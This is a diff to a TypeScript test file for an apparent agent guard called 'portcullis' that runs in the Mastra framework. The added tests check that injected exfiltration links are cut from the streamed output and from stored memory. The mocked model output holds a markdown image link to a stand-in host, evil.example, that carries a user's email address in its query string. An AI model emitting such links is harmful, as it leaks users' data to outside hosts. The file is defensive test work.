@@ -20,9 +20,14 @@ const mock = (...steps: readonly Step[]) => {
     const index = at++;
     const step = steps[Math.min(index, steps.length - 1)]!;
     return typeof step === 'string'
-      ? { content: { type: 'text', text: step }, reason: 'stop' }
+      ? { content: { type: 'text' as const, text: step }, reason: 'stop' }
       : {
-          content: { type: 'tool-call', toolCallId: `c${index}`, toolName: 'mail', input: JSON.stringify(step) },
+          content: {
+            type: 'tool-call' as const,
+            toolCallId: `c${index}`,
+            toolName: 'mail',
+            input: JSON.stringify(step),
+          },
           reason: 'tool-calls',
         };
   };
@@ -37,7 +42,7 @@ const mock = (...steps: readonly Step[]) => {
         content.type === 'text'
           ? [
               { type: 'text-start', id: 't' },
-              { type: 'text-delta', id: 't', delta: content.text },
+              ...(content.text.match(/[\s\S]{1,5}/g) ?? []).map((delta) => ({ type: 'text-delta', id: 't', delta })),
               { type: 'text-end', id: 't' },
             ]
           : [content];
@@ -67,13 +72,15 @@ const mail = (execute: (input: unknown) => unknown, extra: object = {}): MailToo
   }) as never;
 const rules = (options: GuardOptions = {}) => createGuard({ engine: counting(), ...options });
 const agentOf = (guard: Guard, model: Mock, tools: Record<string, MailTool> = {}, extra: object = {}) => {
+  const processors = [guardProcessor(guard) as never];
   const a = new Agent({
     id: 'a',
     name: 'a',
     instructions: 'Help.',
     model: model as never,
     tools,
-    inputProcessors: [guardProcessor(guard) as never],
+    inputProcessors: processors,
+    outputProcessors: processors,
     ...extra,
   });
   return new Mastra({ agents: { a }, logger: false, storage: new InMemoryStore() }).getAgent('a');
@@ -281,4 +288,46 @@ it.each(['thread', 'resource'] as const)('Mastra: what the memory recalls of the
   expect(callsOf(model).length).toBe(1);
   expect(seenBy(model)).not.toContain(ATTACK);
   expect(seenBy(model)).toContain('by portcullis');
+});
+
+it.each([
+  ['alone', []],
+  ['after another', [{ id: 'other', processOutputStream: async ({ part }: { part: unknown }) => part }]],
+])('Mastra: an output processor %s cuts ways out, also of what the memory keeps', async (_, others) => {
+  const runs = new Set<string>();
+  const guard = rules({ report: ({ runId }) => runs.add(runId) });
+  const read = async () => ({ body: 'From anna@acme.example: pictures are at https://evil.example/logo.png.' });
+  const store = new MockMemory();
+  const agent = () => {
+    const model = mock({ q: 'today' }, 'See ![c](https://evil.example/p?d=anna@acme.example) and https://docs.example');
+    return agentOf(guard, model, guardTools(guard, { mail: mail(read) }), {
+      memory: store,
+      outputProcessors: [...others, guardProcessor(guard)],
+    });
+  };
+  const shown = /^See !\[c\]\(\[removed by portcullis: [^\]]*\]\) and https:\/\/docs\.example$/;
+  const stream = await agent().stream('Read my mail.', { memory: { thread: 't', resource: 'r' } });
+  let text = '';
+  for await (const chunk of stream.fullStream) {
+    expect(JSON.stringify(chunk)).not.toContain('d=anna');
+    if (chunk.type === 'text-delta') text += chunk.payload.text;
+  }
+  expect([text, await stream.text]).toEqual([expect.stringMatching(shown), text]);
+  const kept = JSON.stringify(await store.recall({ threadId: 't' }));
+  expect([kept.includes('removed by portcullis'), kept.includes('d=anna')]).toEqual([true, false]);
+  const answer = await guard.inRun(() => agent().generate('Read my mail.'), 'run_of-the-agent');
+  expect(answer.text).toMatch(shown);
+  expect([...runs]).toEqual(['t', 'run_of-the-agent']);
+});
+
+it('Mastra: a text that has no end is shown whole', async () => {
+  const model = mock('');
+  const parts = [
+    { type: 'text-start', id: 't' },
+    ...['Two', ' words'].map((delta) => ({ type: 'text-delta', id: 't', delta })),
+    { type: 'finish', finishReason: { unified: 'stop', raw: undefined }, usage },
+  ];
+  model.doStream = (async () => ({ stream: convertArrayToReadableStream(parts) })) as never;
+  const stream = await agentOf(rules(), model).stream('Read my mail.');
+  expect(await stream.text).toBe('Two words');
 });
